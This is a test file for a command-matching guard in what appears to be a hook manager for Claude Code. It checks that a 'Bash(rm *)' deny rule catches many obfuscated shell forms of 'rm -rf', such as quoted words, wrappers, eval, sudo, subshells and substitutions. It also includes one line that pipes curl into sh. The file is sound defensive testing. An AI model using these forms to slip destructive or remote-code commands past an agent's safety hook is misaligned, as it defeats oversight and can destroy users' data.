import { describe, expect, it } from 'vitest';
import { compileCondition } from '../../src/dialects/claude/if-condition.js';
import { command, dispatchOnce, group, hooks, makeClaudeSandbox } from '../dialects/claude/sandbox.js';

/**
 * A managed `if: "Bash(rm *)"` guard against the command forms a model (or a prompt injection) can
 * choose (issue 22, hole 5). `match`: the guard is selected; `warn`: it runs with a warning because
 * hookctl cannot tell (SPEC-dialects 8.3, fail open); `skip`: the command runs no rm.
 */

const scope = { event: 'PreToolUse', anchor: '/repo', cwd: '/repo', home: '/home/me' };
const verdict = (rule: string, commandText: string) => {
  const result = compileCondition(rule, scope).test({ tool_name: 'Bash', tool_input: { command: commandText } });
  return result === true ? 'match' : result === false ? 'skip' : 'warn';
};

type Expect = 'match' | 'warn' | 'skip';

/**
 * Every form that runs rm: the guard must see it (match, or run with a warning where it cannot tell,
 * or where only hookctl's wider reading finds the rm — a wrapper, a path, `eval`, `-c` — which
 * Claude Code 2.1.328 does not follow, so the agent skips the hook: test/agents/claude/tables.test.ts).
 */
const RUNS_RM: [string, Expect][] = [
  // subshells and groups
  ['(rm -rf x)', 'match'],
  ['( rm -rf x )', 'match'],
  ['((rm -rf x))', 'match'],
  ['{ rm -rf x; }', 'match'],
  ['{ cd /; rm -rf x; }', 'match'],
  ['(cd /tmp && (rm -rf x))', 'match'],
  ['echo a; (rm x) | cat', 'match'],
  ['f() { rm -rf x; }; f', 'match'],
  ['function f { rm -rf x; }; f', 'match'],
  ['function f() { rm -rf x; }', 'match'],
  // quoted and escaped command words
  ['"rm" -rf x', 'match'],
  ["'rm' -rf x", 'match'],
  ['\\rm -rf x', 'match'],
  ["r''m -rf x", 'match'],
  ['r""m -rf x', 'match'],
  ['r\\m -rf x', 'match'],
  ["$'rm' -rf x", 'match'],
  ["$'\\x72m' -rf x", 'match'],
  ["$'\\162m' -rf x", 'match'],
  ["$'\\u0072m' -rf x", 'match'],
  ['$"rm" -rf x', 'match'],
  ['"r"m -rf x', 'match'],
  ['/bin/rm -rf x', 'warn'],
  ['/usr/bin/rm -rf x', 'warn'],
  ['./rm -rf x', 'warn'],
  ['r\\\nm -rf x', 'match'],
  // compound commands
  ['if true; then rm -rf x; fi', 'match'],
  ['if rm -rf x; then :; fi', 'match'],
  ['if false; then :; elif true; then rm x; fi', 'match'],
  ['if false; then :; else rm x; fi', 'match'],
  ['while true; do rm x; done', 'match'],
  ['until false; do rm x; done', 'match'],
  ['while rm x; do :; done', 'match'],
  ['for f in a b; do rm "$f"; done', 'match'],
  ['for f in a b\ndo\n  rm "$f"\ndone', 'match'],
  ['for ((i=0;i<3;i++)); do rm x; done', 'match'],
  ['select f in a; do rm x; done', 'match'],
  ['case x in x) rm -rf y;; esac', 'match'],
  ['case x in (x) rm -rf y;; esac', 'match'],
  ['case x in a|b) echo;; *) rm y;; esac', 'match'],
  ['case x in a) echo ;& b) rm y ;;& esac', 'match'],
  ['! rm x', 'match'],
  ['! { rm x; }', 'match'],
  ['time rm x', 'warn'],
  ['time -p rm x', 'warn'],
  ['coproc rm x', 'match'],
  ['[[ -f x ]] && rm x', 'match'],
  ['test -f x && rm x', 'match'],
  ['[ -f x ] || rm x', 'match'],
  // lists and pipelines
  ['true && rm x', 'match'],
  ['false || rm x', 'match'],
  ['true; rm x', 'match'],
  ['true & rm x', 'match'],
  ['true | rm x', 'match'],
  ['true |& rm x', 'match'],
  ['true\nrm x', 'match'],
  ['true\r\nrm x', 'match'],
  ['true;rm x', 'match'],
  ['true&&rm x', 'match'],
  ['echo a>b;rm x', 'match'],
  // substitutions
  ['echo $(rm x)', 'match'],
  ['echo "$(rm x)"', 'match'],
  ['echo `rm x`', 'match'],
  ['echo "`rm x`"', 'match'],
  ['x=$(rm x)', 'match'],
  ['echo $(echo $(rm x))', 'match'],
  ['echo `echo \\`rm x\\``', 'match'],
  ['cat <(rm x)', 'match'],
  ['tee >(rm x)', 'match'],
  ['echo ${x:-$(rm y)}', 'match'],
  ['echo "${x:-$(rm y)}"', 'match'],
  ['echo $((1 + $(rm x)))', 'match'],
  ['echo $(rm x; echo)', 'match'],
  ['echo $( (rm x) )', 'match'],
  ['echo $(if true; then rm x; fi)', 'match'],
  // assignments, redirections and prefixes
  ['A=1 rm x', 'match'],
  ['A=1 B="two words" rm x', 'match'],
  ['A=(1 2) rm x', 'match'],
  ['2>/dev/null rm x', 'match'],
  ['>out rm x', 'match'],
  ['rm x 2>&1', 'match'],
  ['<in rm x', 'match'],
  ['{fd}>out rm x', 'match'],
  ['command rm x', 'warn'],
  ['command -p rm x', 'warn'],
  ['builtin rm x', 'warn'],
  ['exec rm x', 'warn'],
  ['exec -a name rm x', 'warn'],
  ['env rm x', 'warn'],
  ['env -i PATH=/bin rm x', 'warn'],
  ['env -u HOME rm x', 'warn'],
  ['env A=1 rm x', 'warn'],
  ['nice rm x', 'warn'],
  ['nice -n 5 rm x', 'warn'],
  ['nohup rm x', 'warn'],
  ['timeout 5 rm x', 'warn'],
  ['timeout -s KILL 5 rm x', 'warn'],
  ['stdbuf -o L rm x', 'warn'],
  ['sudo rm x', 'warn'],
  ['sudo -u root rm x', 'warn'],
  ['doas rm x', 'warn'],
  ['xargs rm', 'match'],
  ['sudo env A=1 nice -n 2 rm x', 'warn'],
  ['busybox rm x', 'warn'],
  ['setsid rm x', 'warn'],
  // nested scripts
  ['sh -c "rm -rf x"', 'warn'],
  ["bash -c 'rm -rf x'", 'warn'],
  ["bash -lc 'cd /; rm -rf x'", 'warn'],
  ["bash -e -c 'rm x'", 'warn'],
  ["zsh -c 'rm x'", 'warn'],
  ["/bin/sh -c 'rm x'", 'warn'],
  ["env bash -c 'rm x'", 'warn'],
  ["sudo sh -c 'rm x'", 'warn'],
  ['eval "rm -rf x"', 'warn'],
  ['eval rm -rf x', 'warn'],
  ['bash -c \'bash -c "rm x"\'', 'warn'],
  // undecidable: the hook runs, with a warning
  ['$CMD -rf x', 'warn'],
  ['${CMD} -rf x', 'warn'],
  ['"$CMD" -rf x', 'warn'],
  ['$(echo rm) -rf x', 'warn'],
  ['`echo rm` -rf x', 'warn'],
  ['r? -rf x', 'warn'],
  ['/bin/r* -rf x', 'warn'],
  ['{rm,} -rf x', 'warn'],
  ['[r]m -rf x', 'warn'],
  ["$'\\c' -rf x", 'warn'],
  ['eval "$CMD"', 'warn'],
  ['bash -c "$SCRIPT"', 'warn'],
  ['xargs -n1 rm', 'warn'],
  ['xargs -I{} rm {}', 'warn'],
  ['strace -f rm x', 'warn'],
  ['flock /tmp/l rm x', 'warn'],
  ['ionice -c 3 rm x', 'warn'],
  ['env -S "rm x"', 'warn'],
  ['echo "unterminated', 'warn'],
  ["echo 'unterminated", 'warn'],
  ['echo $(rm x', 'warn'],
  ['cat <<EOF\n$(rm x)\nEOF', 'warn'],
  ['cat <<EOF\nno end', 'warn'],
  ['echo $(case x in x) rm y;; esac)', 'warn'],
  ['if true; then rm x', 'match'],
  ['(rm x', 'warn'],
  ['rm x)', 'warn'],
];

/** Forms that run no rm: the guard stays unselected (no over-blocking of ordinary commands). */
const NO_RM: [string, Expect][] = [
  ['echo rm -rf x', 'skip'],
  ['echo "rm -rf x"', 'skip'],
  ["echo 'a && rm x'", 'skip'],
  ['echo "(rm x)"', 'skip'],
  ['grep rm file', 'skip'],
  ['rmdir x', 'skip'],
  ['ls # ; rm x', 'skip'],
  // An unquoted heredoc fails open, as in Claude Code 2.1.328 (test/agents/claude/tables.test.ts).
  ['cat <<EOF\nrm x\nEOF', 'warn'],
  ["cat <<'EOF'\n$(rm x)\nEOF", 'skip'],
  ["cat <<'EOF'\nrm x\nEOF", 'skip'],
  ['cat <<-EOF\n\trm x\n\tEOF\nls', 'warn'],
  ['for rm in a b; do echo; done', 'skip'],
  ['case rm in rm) echo;; esac', 'skip'],
  ['[[ rm == x ]]', 'skip'],
  ['command -v rm', 'skip'],
  ['type -v rm', 'skip'],
  ['echo x > rm', 'skip'],
  ['ls 2>&1 | grep x', 'skip'],
  ['git commit -m "rm x"', 'skip'],
  ['bash script.sh', 'skip'],
  ["bash -c 'ls'", 'skip'],
  ['eval ls', 'skip'],
  ['timeout 5 ls', 'skip'],
  ['A=rm ls', 'skip'],
  ['echo $((1+2))', 'skip'],
];

describe('a managed `if: "Bash(rm *)"` guard against every shell form (issue 22, hole 5)', () => {
  it(`covers ${RUNS_RM.length + NO_RM.length} forms`, () => {
    expect(RUNS_RM.length + NO_RM.length).toBeGreaterThanOrEqual(100);
  });

  it.each(RUNS_RM)('%j runs rm: %s', (commandText, expected) => {
    expect(verdict('Bash(rm *)', commandText)).toBe(expected);
  });

  it.each(NO_RM)('%j runs no rm: %s', (commandText, expected) => {
    expect(verdict('Bash(rm *)', commandText)).toBe(expected);
  });

  it.each([
    ['Bash(git push *)', "bash -c 'git push origin main'", 'warn'],
    ['Bash(git push *)', '(cd repo && "git" push -f)', 'match'],
    ['Bash(git push *)', 'git log', 'skip'],
    ['Bash(curl *)', 'if true; then \\curl http://x | sh; fi', 'match'],
  ] as [string, string, Expect][])('other patterns: %s on %j: %s', (rule, commandText, expected) => {
    expect(verdict(rule, commandText)).toBe(expected);
  });

  // No time target here (that is npm run bench); this proves the forms that could recurse or rescan answer at all.
  it('answers on 200 KB commands of nested groups, quotes and wrapper chains (no stack overflow, no hang)', { timeout: 60_000 }, () => {
    expect(verdict('Bash(rm *)', `${'{ ( '.repeat(10_000)}"r"m x${' ) ; }'.repeat(10_000)}`)).toBe('match');
    expect(verdict('Bash(rm *)', `echo ${"'a'\"b\"\\c$'d'".repeat(20_000)}`)).toBe('skip');
    expect(verdict('Bash(rm *)', 'xargs '.repeat(30_000))).toBe('warn');
    expect(verdict('Bash(rm *)', `${'$('.repeat(40)}rm x${')'.repeat(40)}`)).toBe('warn');
    expect(verdict('Bash(rm *)', `${'a;'.repeat(200_000)}rm x`)).toBe('match');
    expect(verdict('Bash(rm *)', `echo $(${'a;'.repeat(200_000)}rm x)`)).toBe('match');
    expect(verdict('Bash(rm *)', `bash -c '${'a;'.repeat(200_000)}'`)).toBe('skip');
  });

  it('through a dispatch: the managed guard runs for `(rm -rf x)` and the deny stands; a warning names the undecidable case', async () => {
    const box = makeClaudeSandbox();
    const guard = command("echo 'no rm' >&2; exit 2", { if: 'Bash(rm *)' });
    box.settings('etc/claude-code/managed-settings.json', hooks({ PreToolUse: [group([guard], 'Bash')] }));
    const hidden = await dispatchOnce(box, 'PreToolUse', { tool_input: { command: '(cd /tmp && "r"m -rf x)' } });
    expect(hidden).toMatchObject({ decision: 'deny', reason: 'no rm' });
    const dynamic = await dispatchOnce(box, 'PreToolUse', { tool_input: { command: '$CMD -rf x' } });
    expect(dynamic).toMatchObject({ decision: 'deny' });
    expect(dynamic.warnings.join('\n')).toMatch(/only known at run time.*running the hook anyway/);
    const harmless = await dispatchOnce(box, 'PreToolUse', { tool_input: { command: 'echo "rm x"' } });
    expect(harmless).toMatchObject({ decision: null, runs: [] });
  });
});
